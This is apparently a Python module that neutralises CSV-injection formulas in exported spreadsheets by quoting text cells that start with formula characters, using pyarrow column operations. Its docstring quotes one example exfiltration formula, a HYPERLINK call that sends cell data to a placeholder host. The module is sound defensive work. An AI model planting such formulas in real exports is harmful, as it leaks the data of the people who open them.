"""Neutralise spreadsheet formulas in CSV cells (CSV injection), for every CSV the package writes.

A spreadsheet (Excel, WPS, LibreOffice) evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some, after a leading tab or line break) as a formula: a title such as
``=HYPERLINK("http://x/?"&A1)`` in an export would run when an analyst opens it. OWASP's advice is
followed: such a cell is prefixed with a single quote, which the spreadsheet shows as text and does not
evaluate. Full-width forms of the same signs are treated alike, because Chinese input methods type them
and some spreadsheets read them as formula starts. Only text is touched: numbers stay numbers.

``neutralise_table`` works on whole Arrow columns (no Python loop over rows); ``neutralise_value`` is the
same rule for a single Python value (rows written with the ``csv`` module).
"""

from __future__ import annotations

from typing import Any

import pyarrow as pa
import pyarrow.compute as pc

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_PATTERN = "^[" + "".join("\\" + c if c in "-\\]^" else c for c in FORMULA_STARTS) + "]"
QUOTE = "'"


def neutralise_value(value: Any) -> Any:
    """A text cell that a spreadsheet would read as a formula, prefixed with ``'``; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return QUOTE + value
    return value


def neutralise_array(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """The rule over a whole string column (other types are returned unchanged)."""
    if pa.types.is_dictionary(values.type):
        values = pc.cast(values, values.type.value_type)
    if not (pa.types.is_string(values.type) or pa.types.is_large_string(values.type)):
        return values
    risky = pc.match_substring_regex(values, _PATTERN)
    if not pc.any(risky).as_py():
        return values
    quoted = pc.binary_join_element_wise(pa.scalar(QUOTE, values.type), values, pa.scalar("", values.type))
    return pc.if_else(risky, quoted, values)


def neutralise_table(table: pa.Table) -> pa.Table:
    """Every string column of ``table`` with formula-like cells quoted; the schema's names are kept."""
    columns = [neutralise_array(col) for col in table.columns]
    return pa.table(columns, names=table.column_names)
